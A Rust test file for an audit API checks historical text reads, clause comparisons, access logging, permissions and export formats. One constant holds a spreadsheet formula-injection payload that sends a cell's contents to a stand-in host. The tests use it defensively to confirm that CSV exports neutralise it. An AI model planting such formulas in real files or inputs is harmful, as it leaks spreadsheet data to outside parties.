//! The audit read by programs.

use domain::api::InviteDelegate;
use domain::consensus::PositionKind;
use domain::id::{DelegateId, InvitationId};
use domain::role::NetworkRole;
use serde_json::{Value, json};

use super::{Caller, instrument};
use crate::web::pages::fixture::{World, first_texts, outline};

/// What a spreadsheet would compute.
const HOSTILE: &str = "=HYPERLINK(\"https://x.example?\"&A1,\"See here\")";

/// Two revisions with positions before each; returns the entries at which they were tabled.
async fn at_work() -> (World, [u64; 2]) {
    let world = World::tabled().await;
    world.takes(1, 2, PositionKind::Endorse).await;
    let mut texts = first_texts();
    texts[1].3 = "Results of every polling station shall be published within 48 hours.";
    world.table(&outline(&texts)).await;
    let register = world.office.register();
    let revisions = world.on_table(&register).revisions();
    let tabled = [revisions[0].seq, revisions[1].seq];
    (world, tabled)
}

#[track_caller]
fn clause_of<'a>(clauses: &'a Value, id: &str, member: &str) -> &'a Value {
    let clauses = clauses.as_array().unwrap();
    clauses.iter().find(|it| it[member] == id).unwrap()
}

#[tokio::test]
async fn the_text_is_read_as_of_an_entry_or_an_instant() {
    let (world, [first, second]) = at_work().await;
    let caller = Caller::of(&world, world.secretariat).await;
    let second_clause = world.clause(2).to_string();
    let read = async |query: &str| {
        let path = instrument(&world, &format!("/audit/text{query}"));
        caller.get(&path).await.expect(200)
    };
    let then = read(&format!("?as_of={}", second - 1)).await;
    assert_eq!(then["revision"], 1);
    assert_eq!(then["entry"], second - 1);
    let clause = clause_of(&then["clauses"], &second_clause, "id");
    assert!(clause.to_string().contains("promptly and in full"));
    assert_eq!(clause["positions"].as_array().unwrap().len(), 1);
    assert!(clause["status"]["level"].is_string(), "{clause}");
    let early = read(&format!("?as_of={first}")).await;
    let clause = clause_of(&early["clauses"], &second_clause, "id");
    assert_eq!(clause["positions"], json!([]));
    let now = read("").await;
    assert_eq!(now["revision"], 2);
    assert!(now.to_string().contains("within 48 hours"));
    let by_instant = read(&format!("?as_of={}", then["at"].as_str().unwrap())).await;
    assert_eq!(by_instant, then);

    let wrong = instrument(&world, "/audit/text?as_of=yesterday");
    let wrong = caller.get(&wrong).await;
    wrong.expect_problem(422, "invalid-field");
    let before = instrument(&world, "/audit/text?as_of=0");
    caller.get(&before).await.expect_problem(404, "not-found");
}

#[tokio::test]
async fn two_moments_are_compared_clause_by_clause() {
    let (world, [first, second]) = at_work().await;
    let caller = Caller::of(&world, world.secretariat).await;
    let compare = async |query: &str| {
        let path = instrument(&world, &format!("/audit/comparison{query}"));
        caller.get(&path).await.expect(200)
    };
    let between = format!("?from={first}&to={second}");
    let changed = compare(&between).await;
    assert_eq!(changed["from"]["revision"], 1);
    assert_eq!(changed["to"]["revision"], 2);
    assert_eq!(changed["clauses"].as_array().unwrap().len(), 1);
    assert_eq!(changed["unchanged"], 4);
    let clause = &changed["clauses"][0];
    assert_eq!(clause["clause"], world.clause(2).to_string());
    assert_eq!(clause["what"], json!(["reworded"]));
    assert_ne!(clause["before"]["text_hash"], clause["after"]["text_hash"]);
    let runs = clause["redline"].as_array().unwrap();
    let inserted = runs.iter().filter(|it| it["change"] == "inserted");
    assert!(inserted.clone().count() > 0, "{clause}");
    assert!(inserted.into_iter().any(|it| it.to_string().contains("48")));
    let entries = changed["entries"].as_array().unwrap();
    assert!(entries.contains(&json!(second)), "{changed}");
    assert!(!entries.contains(&json!(first)), "{changed}");

    let other = compare(&format!("{between}&clause={}", world.clause(3))).await;
    assert_eq!(other["clauses"][0]["clause"], world.clause(3).to_string());
    assert_eq!(other["clauses"][0]["what"], json!([]));
    // Without moments: from the first entry about the instrument until now, so that all is new.
    let all = compare("").await;
    assert_eq!(all["clauses"].as_array().unwrap().len(), 5);
    assert_eq!(all["clauses"][0]["what"], json!(["added"]));
    let wrong = instrument(&world, "/audit/comparison?to=tomorrow");
    let wrong = caller.get(&wrong).await;
    wrong.expect_problem(422, "invalid-field");
}

#[tokio::test]
async fn that_programs_read_the_audit_is_recorded_of_each_kind() {
    let (world, _) = at_work().await;
    let caller = Caller::of(&world, world.secretariat).await;
    let clause = format!("/audit/clauses/{}", world.clause(2));
    for path in ["/audit/text", "/audit/comparison", &clause] {
        for _ in 0..2 {
            let answer = caller.get(&instrument(&world, path)).await;
            assert_eq!(answer.status, 200, "{}", answer.text);
        }
    }
    let custody = instrument(&world, &format!("{clause}/custody"));
    let report = caller.post(&custody, &json!({})).await;
    assert_eq!(report.status, 200, "{}", report.text);
    assert!(
        report.text.starts_with("<!DOCTYPE html>"),
        "{}",
        report.text
    );
    let read = world.readings().await;
    let scopes: Vec<_> = read.iter().map(|it| it["scope"].clone()).collect();
    assert_eq!(scopes, ["text", "comparison", "timeline", "custody"]);
}

#[tokio::test]
async fn who_does_not_oversee_the_record_reads_nothing_of_its_audit() {
    let (world, _) = at_work().await;
    let clause = format!("/audit/clauses/{}", world.clause(2));
    let member = Caller::of(&world, world.delegates[1]).await;
    let stranger = Caller::stranger(&world);
    for path in ["/audit/text", "/audit/comparison", &clause] {
        let path = instrument(&world, path);
        member.get(&path).await.expect_problem(403, "forbidden");
        let unknown = stranger.get(&path).await;
        unknown.expect_problem(401, "sign-in-required");
    }
    let custody = instrument(&world, &format!("{clause}/custody"));
    let asked = member.post(&custody, &json!({})).await;
    asked.expect_problem(403, "forbidden");
    let export = json!({"format": "csv"});
    let asked = member.post("/audit/exports", &export).await;
    asked.expect_problem(403, "not-permitted");
    assert_eq!(world.readings().await, Vec::<Value>::new());
}

#[tokio::test]
async fn an_export_as_csv_has_no_cell_that_a_spreadsheet_computes() {
    let world = World::new().await;
    joins(&world, HOSTILE).await;
    let caller = Caller::of(&world, world.secretariat).await;
    let file = caller
        .post("/audit/exports", &json!({"format": "csv"}))
        .await;
    assert_eq!(file.status, 200, "{}", file.text);
    assert_eq!(file.header("content-type"), "text/csv; charset=utf-8");
    let doubled = HOSTILE.replace('"', "\"\"");
    let harmless = format!(",\"'{doubled}\",");
    assert!(file.text.contains(&harmless), "{}", file.text);
    for computed in [",=", ",\"=", "\n=", "\n\"="] {
        assert!(!file.text.contains(computed), "{}", file.text);
    }
    // As lines of JSON the words are what was written, to the letter.
    let wanted = json!({"format": "ndjson", "type": "delegate_invited"});
    let file = caller.post("/audit/exports", &wanted).await;
    let last: Value = serde_json::from_str(file.text.lines().last().unwrap()).unwrap();
    let words = last["contents"].as_array().unwrap();
    assert!(words.iter().any(|it| it["text"] == HOSTILE), "{last}");
    let read = world.readings().await;
    let scopes: Vec<_> = read.iter().map(|it| it["scope"].clone()).collect();
    assert_eq!(scopes, ["export", "export"]);
}

/// Invites somebody of a name, who joins.
async fn joins(world: &World, name: &str) {
    let invitation = InvitationId::from_uuid(world.office.fresh_uuid());
    let delegate = DelegateId::from_uuid(world.office.fresh_uuid());
    let command = InviteDelegate {
        organisation: Some(world.members[0]),
        role: NetworkRole::Delegate,
        name: name.parse().unwrap(),
        address: "new@members.example".parse().unwrap(),
        expires_at: world.now().plus_seconds(86_400),
    };
    let (by, now) = (world.secretariat, world.now());
    let ids = (invitation, delegate);
    world
        .act(|register| register.network().invite_delegate(&command, by, now, ids))
        .await;
    world
        .act(|register| register.network().accept_invitation(invitation, now))
        .await;
}
